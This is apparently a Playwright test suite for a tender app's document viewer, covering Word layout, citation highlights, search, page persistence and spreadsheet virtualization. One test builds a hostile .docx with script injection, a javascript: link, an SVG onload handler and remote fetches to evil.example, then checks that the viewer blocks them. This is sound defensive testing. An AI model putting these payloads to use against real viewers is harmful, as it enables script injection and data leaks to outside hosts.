import type { Locator, Page } from '@playwright/test';
import { faultsOf } from './support/faults.ts';
import { makeDocx, makeXlsx, paragraph, picture } from './support/make-office.ts';
import { expect, makeTender, test } from './support/test.ts';

const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const cell = (text: string) => `<w:tc>${paragraph(text)}</w:tc>`;
const table = `<w:tbl><w:tr>${cell('Material')}${cell('Steel 316')}</w:tr></w:tbl>`;
const newPage = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>';

/** Counts how often files are fetched from here on. */
function fetchesOf(page: Page): () => number {
  let count = 0;
  page.on('request', (request) => {
    if (/\/documents\/[^/]+\/content/.test(request.url())) count += 1;
  });
  return () => count;
}

/** Changes the theme, and the width of the window in all its layouts. */
async function changeLooks(page: Page): Promise<void> {
  for (const name of ['Switch to dark theme', 'Switch to light theme'])
    await page.getByRole('button', { name }).click();
  for (const width of [1024, 390, 1440]) {
    await page.setViewportSize({ width, height: 900 });
    await expect(page.getByRole('button', { name: 'Zoom in' })).toBeVisible();
  }
  // Away from the button, whose tooltip would stay.
  await page.mouse.move(1, 450);
}

/** Downloads the shown file by the viewer. */
async function expectSaved(page: Page, name: string): Promise<void> {
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Save a copy' }).click();
  expect((await download).suggestedFilename()).toBe(name);
}

test('a Word document is shown in its layout; cited words are marked, and the text can be searched and read', async ({
  page,
  signedIn,
}) => {
  const path = await makeTender(signedIn, 'As it looks');
  await page.goto(path);
  const filler = Array.from({ length: 60 }, (_, at) => paragraph(`Remark ${at + 1} of no importance.`)).join('');
  const buffer = makeDocx(
    `${paragraph('Terms of supply')}${filler}${newPage}${paragraph('The performance ', 'guarantee amounts to ', '10% of the contract price.')}${table}`,
  );
  await page.locator('input[type=file]').first().setInputFiles({ name: 'terms.docx', mimeType: docxType, buffer });
  await page.getByLabel('Your question').fill('How much is the performance guarantee?');
  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
  await page.getByLabel('Your question').press('Enter');
  await page
    .getByRole('button', { name: /^Source 1/ })
    .first()
    .click();

  const frame = page.frameLocator('iframe');
  const marks = frame.locator('[data-highlight]');
  await expect(marks).toHaveText(['The performance ', 'guarantee amounts to ', '10% of the contract price.']);
  await expect(marks.first()).toBeInViewport();
  await expect(frame.locator('table')).toContainText('Steel 316');
  await expectSaved(page, 'terms.docx');
  await marks.first().click();
  // The frame has no scripts: the app takes the focus back a moment after the click.
  await expect(page.getByRole('region', { name: 'Pages of terms.docx' })).toBeFocused();
  await page.keyboard.press('Control+f');
  await page.getByRole('textbox', { name: 'Find in this document' }).fill('remark 5');
  await expect(page.getByText('1 of 11', { exact: true })).toBeVisible();
  await page.keyboard.press('Enter');
  await expect(page.getByText('2 of 11', { exact: true })).toBeVisible();
  await expect(frame.getByText('Remark 50 of')).toBeInViewport();
  await page.keyboard.press('Escape');
  const fetches = fetchesOf(page);
  await changeLooks(page);
  await expect(frame.getByText('Remark 50 of')).toBeInViewport();
  expect(fetches(), 'the open file is kept').toBe(0);
  for (const width of [1440, 390]) {
    await page.setViewportSize({ width, height: 900 });
    await expect(frame.getByText('Terms of supply')).toBeAttached();
    expect.soft(await faultsOf(page), `${width} px`).toEqual([]);
  }
  // Scrolling elsewhere in the document removed the mark.
  await page.setViewportSize({ width: 1440, height: 900 });
  await page
    .getByRole('button', { name: /^Source 1/ })
    .first()
    .click();
  await expect(marks.first()).toBeInViewport();
  // The reading position stays in view at another scale.
  for (let step = 0; step < 4; step += 1) await page.getByRole('button', { name: 'Zoom in' }).click();
  await expect(marks.first()).toBeInViewport();
  for (let step = 0; step < 7; step += 1) await page.getByRole('button', { name: 'Zoom out' }).click();
  await expect(marks.first()).toBeInViewport();
  await page.getByRole('button', { name: 'Show as text' }).click();
  await expect(page.locator('mark[data-highlight]')).toContainText('10% of the contract price');
  await page.setViewportSize({ width: 390, height: 900 });
  const note = page.getByText('This is the text that was read from the file.');
  await expect.poll(() => note.evaluate((element) => element.scrollWidth - element.clientWidth)).toBeLessThan(1);
  await expect.poll(async () => (await note.boundingBox())?.width ?? 0).toBeLessThan(390);
  expect((await note.boundingBox())?.height, 'in several lines').toBeGreaterThan(30);
});

test('a page of a Word document that is opened by its number keeps it over reloads', async ({ page, signedIn }) => {
  const path = await makeTender(signedIn, 'Pages of Word');
  await page.goto(path);
  // Without marks of pages the server counts characters: short lines take a larger part of what is drawn than of the server's pages.
  const terms = 'The goods are delivered as agreed, and the risk passes when they are taken over. '.repeat(6);
  const buffer = makeDocx(
    Array.from({ length: 700 }, (_, at) => paragraph(`Clause ${at + 1}: ${at < 400 ? 'none.' : terms}`)).join(''),
  );
  await page.locator('input[type=file]').first().setInputFiles({ name: 'long.docx', mimeType: docxType, buffer });
  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
  await page.getByRole('button', { name: 'long.docx', exact: true }).click();
  await expect(page).toHaveURL(/document=/);
  const id = new URL(page.url()).searchParams.get('document');
  await page.goto(`${path}?tab=document&document=${id}&page=9`);
  const field = page.getByLabel('Page', { exact: true });
  for (let round = 0; round < 3; round++) {
    await expect(page.frameLocator('iframe').getByText('Clause 1:')).toBeAttached();
    // Longer than it takes to write the page in view into the address.
    await page.waitForTimeout(1500);
    await expect(field).toHaveValue('9');
    await expect(page).toHaveURL(/page=9(&|$)/);
    await page.reload();
  }
});

test('Back leads from a cited place to the page that was in view before in a Word file', async ({ page, signedIn }) => {
  const path = await makeTender(signedIn, 'Back in a file');
  await page.goto(path);
  const filler = Array.from({ length: 20 }, (_, at) => paragraph(`Remark ${at + 1} of no importance.`)).join('');
  const guarantee = paragraph('The performance guarantee amounts to 10% of the contract price.');
  const terms = `${paragraph('Terms of supply')}${filler}${newPage}${filler}${newPage}${guarantee}`;
  const buffer = makeDocx(terms);
  await page.locator('input[type=file]').first().setInputFiles({ name: 'terms.docx', mimeType: docxType, buffer });
  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
  await page.getByRole('button', { name: 'terms.docx', exact: true }).click();
  await expect(page).toHaveURL(/document=.*page=1(&|$)/);
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('Terms of supply')).toBeInViewport();
  await page.getByLabel('Your question').fill('How much is the performance guarantee?');
  await page.getByLabel('Your question').press('Enter');
  await page
    .getByRole('button', { name: /^Source 1/ })
    .first()
    .click();
  await expect(frame.locator('[data-highlight]').first()).toBeInViewport();
  await page.goBack();
  await expect(frame.getByText('Terms of supply')).toBeInViewport();
  await expect(frame.locator('[data-highlight]')).toHaveCount(0);
  await expect(page.getByLabel('Page', { exact: true })).toHaveValue('1');
  await page.goForward();
  await expect(frame.locator('[data-highlight]').first()).toBeInViewport();
});

test('tabs of a Word document have their room: after numbers, in contents and in headers', async ({
  page,
  signedIn,
}) => {
  const namespace = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const of = (style: string, properties: string, runs: string) =>
    `<w:p><w:pPr><w:pStyle w:val="${style}"/>${properties}</w:pPr>${runs}</w:p>`;
  const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;
  const tab = '<w:r><w:tab/></w:r>';
  const clause = 'The bidder submits one original and two copies of the whole bid. '.repeat(3);
  const list = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>';
  const style = (id: string) =>
    `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id.toLowerCase()}"/></w:style>`;
  const buffer = makeDocx(
    `${of('TOC1', '', run('Scope of supply') + tab + run('12'))}${of('Clause', list, run(clause))}<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="h"/><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440"/></w:sectPr></w:pPr></w:p>`,
    [
      ['n', 'numbering', 'numbering.xml'],
      ['s', 'styles', 'styles.xml'],
      ['h', 'header', 'header1.xml'],
    ],
    {
      'word/numbering.xml': `<w:numbering ${namespace}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="(%1)"/><w:pPr><w:ind w:left="851" w:hanging="851"/></w:pPr></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
      'word/styles.xml': `<w:styles ${namespace}>${['TOC1', 'Clause', 'Header'].map(style).join('')}</w:styles>`,
      'word/header1.xml': `<w:hdr ${namespace}>${of('Header', '', `${run('Left')}${tab}${run('Middle')}${tab}${run('Right')}`)}</w:hdr>`,
    },
  );
  await page.goto(await makeTender(signedIn, 'Tabs'));
  const documents = page.getByRole('list', { name: 'Documents of this tender' });
  await page.locator('input[type=file]').first().setInputFiles({ name: 'tabs.docx', mimeType: docxType, buffer });
  await expect(documents.getByText('Ready')).toBeVisible();
  await documents.getByText('tabs.docx').click();
  await expect(page.frameLocator('iframe').locator('[data-tab=leader]')).toBeVisible();
  /** Where the parts of a text begin and end, as parts of the width of its paragraph. */
  const spans = (words: string) =>
    page.evaluate((wanted) => {
      const frame = document.querySelector('iframe')?.contentDocument;
      const paragraph = [...(frame?.querySelectorAll('p') ?? [])].find((one) => one.textContent?.includes(wanted));
      if (!frame || !paragraph) return [];
      const { left, width } = paragraph.getBoundingClientRect();
      const walker = frame.createTreeWalker(paragraph, NodeFilter.SHOW_TEXT);
      const boxes: [number, number][] = [];
      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        const range = frame.createRange();
        range.selectNodeContents(node);
        if (!node.textContent?.trim()) continue;
        for (const box of range.getClientRects()) {
          // A space at the end of a line has a box of its own.
          if (box.width > 6) boxes.push([(box.left - left) / width, (box.right - left) / width]);
        }
      }
      return boxes;
    }, words);
  const [, contents] = await spans('Scope of supply');
  expect(contents?.[1]).toBeGreaterThan(0.97);
  expect(contents?.[1]).toBeLessThanOrEqual(1);
  const lines = await spans('The bidder submits');
  expect(lines.length).toBeGreaterThan(1);
  for (const [start] of lines) expect(start).toBeCloseTo(lines[1]?.[0] ?? 0, 2);
  const [, middle, end] = await spans('Middle');
  expect(((middle?.[0] ?? 0) + (middle?.[1] ?? 0)) / 2).toBeCloseTo(0.5, 1);
  expect(end?.[1]).toBeGreaterThan(0.95);
});

test('a Word document has its looks: numbers as their headings, and widths of Calibri', async ({ page, signedIn }) => {
  const namespace = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const list = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>';
  const heading = (properties: string, text: string) =>
    `<w:p><w:pPr><w:pStyle w:val="Heading1"/>${list}${properties}</w:pPr><w:r><w:t>${text}</w:t></w:r></w:p>`;
  const inFont = (font: string) =>
    `<w:p><w:r><w:rPr><w:rFonts w:ascii="${font}" w:hAnsi="${font}"/></w:rPr><w:t>The bidder submits one original and two copies</w:t></w:r></w:p>`;
  const buffer = makeDocx(
    `${heading('', 'Scope')}${heading('<w:rPr><w:color w:val="C00000"/></w:rPr>', 'Prices')}${inFont('Calibri Light')}${inFont('Arial')}`,
    [
      ['n', 'numbering', 'numbering.xml'],
      ['s', 'styles', 'styles.xml'],
    ],
    {
      'word/numbering.xml': `<w:numbering ${namespace}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/><w:rPr><w:i/></w:rPr></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
      'word/styles.xml': `<w:styles ${namespace}><w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/><w:rPr><w:b/><w:color w:val="1F3864"/><w:sz w:val="40"/></w:rPr></w:style></w:styles>`,
    },
  );
  await page.goto(await makeTender(signedIn, 'Looks'));
  const documents = page.getByRole('list', { name: 'Documents of this tender' });
  await page.locator('input[type=file]').first().setInputFiles({ name: 'looks.docx', mimeType: docxType, buffer });
  await expect(documents.getByText('Ready')).toBeVisible();
  await documents.getByText('looks.docx').click();
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('Prices')).toBeVisible();
  const labels = await frame.locator('[data-label]').evaluateAll((runs) =>
    runs.map((run) => {
      const { color, fontSize, fontWeight, fontStyle } = getComputedStyle(run, '::before');
      return [color, Math.round(Number.parseFloat(fontSize)), fontWeight, fontStyle];
    }),
  );
  expect(labels).toEqual([
    ['rgb(31, 56, 100)', 27, '700', 'italic'],
    ['rgb(192, 0, 0)', 27, '700', 'italic'],
  ]);
  const widthOf = async (text: Locator) => (await text.boundingBox())?.width ?? 0;
  const texts = frame.locator('span').filter({ hasText: /^The bidder submits/ });
  const ratio = async () => (await widthOf(texts.first())) / (await widthOf(texts.nth(1)));
  // How much narrower depends on how a system rounds the widths of letters.
  await expect.poll(ratio).toBeLessThan(0.99);
});

test('a hostile Word document runs nothing, fetches nothing and does not stop the screen', async ({
  page,
  signedIn,
}) => {
  const path = await makeTender(signedIn, 'Hostile');
  const outside: string[] = [];
  page.on('request', (request) => {
    if (/evil\.example/.test(request.url())) outside.push(request.url());
  });
  page.on('dialog', (dialog) => outside.push(dialog.message()));
  const script = '<script>parent.pwned = 1; fetch("https://evil.example/script")</script>';
  const hostile = makeDocx(
    `${paragraph('Before')}<w:p><w:hyperlink r:id="js"><w:r><w:t>Follow me</w:t></w:r></w:hyperlink></w:p><w:p><w:hyperlink r:id="web"><w:r><w:t>To a page</w:t></w:r></w:hyperlink></w:p>${picture('remote')}${picture('svg')}<w:altChunk r:id="chunk"/>${paragraph('After')}`,
    [
      ['js', 'hyperlink', 'javascript:parent.pwned=1'],
      ['web', 'hyperlink', 'https://evil.example/page'],
      ['remote', 'image', 'https://evil.example/pixel.png'],
      ['svg', 'image', 'media/image1.svg'],
      ['chunk', 'aFChunk', 'chunk.html'],
      ['template', 'attachedTemplate', 'https://evil.example/macro.dotm'],
    ],
    {
      'word/media/image1.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1">${script}<image href="https://evil.example/svg.png"/></svg>`,
      'word/chunk.html': `<html><body>${script}</body></html>`,
    },
  );
  const huge = makeDocx(
    `<w:tbl>${`<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(60)}</w:tr>`.repeat(4000)}</w:tbl>${paragraph('End of it')}`,
  );
  await page.goto(path);
  await page
    .locator('input[type=file]')
    .first()
    .setInputFiles([
      { name: 'hostile.docx', mimeType: docxType, buffer: hostile },
      { name: 'huge.docx', mimeType: docxType, buffer: huge },
    ]);
  const list = page.getByRole('list', { name: 'Documents of this tender' });
  await expect(list.getByText('Ready')).toHaveCount(2, { timeout: 60_000 });

  await list.getByText('hostile.docx').click();
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('After')).toBeVisible();
  await expect(frame.locator('script, iframe, object, [href], [onload]')).toHaveCount(0);
  await frame.getByText('Follow me').click();
  await frame.getByText('To a page').click();
  const question = page.getByRole('alertdialog');
  await expect(question).toContainText('https://evil.example/page');
  // The dialog takes the focus a moment after it is shown; before, the key belongs to the document's frame.
  await expect(question.locator(':focus')).toHaveCount(1);
  await page.keyboard.press('Escape');
  await expect(question).toHaveCount(0);

  await list.getByText('huge.docx').click();
  await expect(page.getByText('This file is too large to be shown as it looks.', { exact: false })).toBeVisible();
  await expect(page.locator('[data-page]')).toContainText('End of it');
  expect(outside).toEqual([]);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
});

test('a workbook is shown as sheets, and only the cells near the view are in the page', async ({ page, signedIn }) => {
  const path = await makeTender(signedIn, 'Sheets');
  await page.goto(path);
  const rows = Array.from({ length: 5000 }, (_, at) => [`P-${at + 1}`, 'Centrifugal pump', `Station ${at % 7}`]);
  const buffer = makeXlsx({
    Summary: [
      ['Item', 'Value'],
      ['Bid security', 'EUR 48,500'],
    ],
    Pumps: [['Tag', 'Description', 'Place'], ...rows],
  });
  await page.locator('input[type=file]').first().setInputFiles({ name: 'prices.xlsx', mimeType: xlsxType, buffer });
  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
  await page.getByLabel('Your question').fill('How much is the bid security?');
  await page.getByLabel('Your question').press('Enter');
  await page
    .getByRole('button', { name: /^Source 1/ })
    .first()
    .click();
  await expect(page.locator('[data-cell][data-highlight]').last()).toContainText('EUR 48,500');
  expect.soft(await faultsOf(page)).toEqual([]);

  await expectSaved(page, 'prices.xlsx');
  await page.getByRole('tab', { name: 'Pumps' }).click();
  await expect(page.getByRole('columnheader', { name: 'C', exact: true })).toBeVisible();
  expect(await page.locator('[data-cell]').count()).toBeLessThan(400);
  await page.getByLabel('Your question').focus();
  await page.keyboard.press('Control+f');
  await page.getByRole('textbox', { name: 'Find in this document' }).fill('P-4711');
  await expect(page.locator('[data-cell="4712:0"]')).toBeInViewport();
  await page.locator('[data-cell="4712:1"]').click();
  await expect(page.getByText('B4712')).toBeVisible();
  const fetches = fetchesOf(page);
  await changeLooks(page);
  await expect(page.locator('[data-cell="4712:1"]')).toBeInViewport();
  await expect(page.getByText('B4712')).toBeVisible();
  expect(fetches(), 'the open file is kept').toBe(0);
});
